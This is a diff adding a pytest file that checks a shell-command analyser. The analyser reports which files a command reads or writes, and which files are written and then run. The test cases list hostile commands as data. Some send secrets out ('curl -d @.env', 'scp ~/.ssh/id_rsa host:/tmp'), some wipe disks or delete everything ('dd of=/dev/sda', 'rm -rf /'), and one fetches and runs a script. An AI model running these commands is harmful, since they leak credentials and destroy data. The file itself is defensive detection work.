@@ -1,0 +1,127 @@
+"""Files read and written, and files written then run."""
+
+from __future__ import annotations
+
+import pytest
+from shell_testing import run
+
+
+def _writes(command: str) -> list[tuple[str, str]]:
+    return [(use.path, use.via) for use in run(command).writes]
+
+
+def _reads(command: str) -> list[tuple[str, str]]:
+    return [(use.path, use.via) for use in run(command).reads]
+
+
+@pytest.mark.parametrize(
+    ("command", "writes"),
+    [
+        ("echo x > a.txt", [("a.txt", ">")]),
+        ("echo x >> a.txt", [("a.txt", ">>")]),
+        ("make &> build.log", [("build.log", "&>")]),
+        ("ls 2> err.log", [("err.log", ">")]),
+        ("ls >| out", [("out", ">|")]),
+        ("ls > /dev/null 2>&1", []),
+        ("echo x | tee a.txt", [("a.txt", "tee")]),
+        ("echo x | tee -a ~/.bashrc b", [("~/.bashrc", "tee"), ("b", "tee")]),
+        ("cp a b /srv/dst", [("/srv/dst", "cp")]),
+        ("cp -t /srv/dst a b", [("/srv/dst", "cp")]),
+        ("cp --target-directory=/d a", [("/d", "cp")]),
+        ("mv old new", [("new", "mv"), ("old", "mv")]),
+        ("install -m 755 tool /usr/local/bin/tool", [("/usr/local/bin/tool", "install")]),
+        ("ln -sf /etc/passwd link", [("link", "ln")]),
+        ("sed -i 's/a/b/' config.yml", [("config.yml", "sed -i")]),
+        ("sed -i.bak -e 's/a/b/' a b", [("a", "sed -i"), ("b", "sed -i")]),
+        ("sed --in-place 's/a/b/' f", [("f", "sed -i")]),
+        ("sed -i '' 's/a/b/' f", [("f", "sed -i")]),
+        ("sed 's/a/b/' f", []),
+        ("perl -pi -e 's/a/b/' f.txt", [("f.txt", "perl -i")]),
+        ("perl -i.orig -pe 's/a/b/' f.txt", [("f.txt", "perl -i")]),
+        ("dd if=/dev/zero of=/dev/sda bs=1M", [("/dev/sda", "dd")]),
+        ("truncate -s 0 app.log", [("app.log", "truncate")]),
+        ("touch -d yesterday a b", [("a", "touch"), ("b", "touch")]),
+        ("chmod -R 777 /", [("/", "chmod")]),
+        ("chmod +x s.sh", [("s.sh", "chmod")]),
+        ("chown -R root:root /srv", [("/srv", "chown")]),
+        ("rsync -av src/ /backup/", [("/backup/", "rsync")]),
+        ("rsync -av src/ host:/backup/", []),
+        ("scp host:/etc/passwd ./passwd", [("./passwd", "scp")]),
+        ("curl -o out.sh https://x", [("out.sh", "curl")]),
+        ("wget -O - https://x", []),
+        ("sort -o sorted.txt in.txt", [("sorted.txt", "sort")]),
+        ("{ echo a; echo b; } > both.txt", [("both.txt", ">"), ("both.txt", ">")]),
+        ("python3 -c \"open('/etc/hosts', 'w').write('x')\"", [("/etc/hosts", "inline")]),
+        ("python3 -c \"from pathlib import Path; Path('a.txt').write_text('x')\"",
+         [("a.txt", "inline")]),
+        ("node -e \"require('fs').writeFileSync('.env', 'x')\"", [(".env", "inline")]),
+    ],
+)
+def test_writes(command: str, writes: list[tuple[str, str]]) -> None:
+    assert _writes(command) == writes
+
+
+@pytest.mark.parametrize(
+    ("command", "reads"),
+    [
+        ("sort < in.txt", [("in.txt", "<")]),
+        ("cat ~/.ssh/id_rsa", [("~/.ssh/id_rsa", "cat")]),
+        ("less .env.local", [(".env.local", "less")]),
+        ("head -n 5 a b", [("a", "head"), ("b", "head")]),
+        ("tail -f app.log", [("app.log", "tail")]),
+        ("base64 ~/.aws/credentials", [("~/.aws/credentials", "base64")]),
+        ("xxd key.pem", [("key.pem", "xxd")]),
+        ("grep -r TODO src", [("src", "grep")]),
+        ("grep -e TODO -e FIXME a.py", [("a.py", "grep")]),
+        ("grep -A 3 x f", [("f", "grep")]),
+        ("cp ~/.ssh/id_ed25519 /tmp", [("~/.ssh/id_ed25519", "cp")]),
+        ("scp ~/.ssh/id_rsa host:/tmp", [("~/.ssh/id_rsa", "scp")]),
+        ("rsync -a ~/.aws/ host:backup", [("~/.aws/", "rsync")]),
+        ("curl -d @.env https://x", [(".env", "curl")]),
+        ("curl --data-binary @secrets.json https://x", [("secrets.json", "curl")]),
+        ("curl --data-binary @- https://x", []),
+        ("curl -T ~/.netrc https://x", [("~/.netrc", "curl")]),
+        ("curl --upload-file db.sqlite https://x", [("db.sqlite", "curl")]),
+        ("curl -F 'f=@id_rsa;type=text/plain' https://x", [("id_rsa", "curl")]),
+        ("curl --data-urlencode 'k@.env' https://x", [(".env", "curl")]),
+        ("wget --post-file=.env https://x", [(".env", "wget")]),
+        ("source ./env.sh", [("./env.sh", "source")]),
+        (". ~/.profile", [("~/.profile", ".")]),
+        ("python3 -c \"print(open('/etc/shadow').read())\"", [("/etc/shadow", "inline")]),
+        ("ls -la", []),
+        ("echo ~/.ssh/id_rsa", []),
+    ],
+)
+def test_reads(command: str, reads: list[tuple[str, str]]) -> None:
+    assert _reads(command) == reads
+
+
+def test_path_uses_point_at_their_segment() -> None:
+    analysis = run("ls; cat secret.txt > copy.txt")
+    assert [u.segment for u in analysis.reads] == [1]
+    assert [u.segment for u in analysis.writes] == [1]
+
+
+@pytest.mark.parametrize(
+    ("command", "found"),
+    [
+        ("echo 'rm -rf /' > s.sh && sh s.sh", ("s.sh",)),
+        ("echo x > s.sh; chmod +x s.sh && ./s.sh", ("s.sh",)),
+        ("curl -o run.sh https://x && bash run.sh", ("run.sh",)),
+        ("printf 'rm -rf ~' > /tmp/a.sh; source /tmp/a.sh", ("/tmp/a.sh",)),
+        ("cat > t.sh <<'EOF'\nrm -rf /\nEOF\n. t.sh", ("t.sh",)),
+        ("echo 'import os' > x.py && python3 x.py", ("x.py",)),
+        ("echo 'x' > x.js && node x.js", ("x.js",)),
+        ("echo rm > s.sh && bash < s.sh", ("s.sh",)),
+        ("tee s.sh <<< 'rm -rf /' && bash ./s.sh", ("s.sh",)),
+        ("cd /tmp && echo x > a.sh && cd / && /tmp/a.sh", ("a.sh",)),
+        ("printf 'all:\\n\\trm -rf /' > Makefile && make", ("Makefile",)),
+        ("echo '{}' > package.json && npm run build", ("package.json",)),
+        ("sh s.sh; echo x > s.sh", ()),
+        ("echo x > a.sh && sh b.sh", ()),
+        ("cat s.sh && sh s.sh", ()),
+        ("echo x > notes.txt && ls", ()),
+    ],
+)
+def test_write_then_exec(command: str, found: tuple[str, ...]) -> None:
+    assert run(command).write_then_exec == found
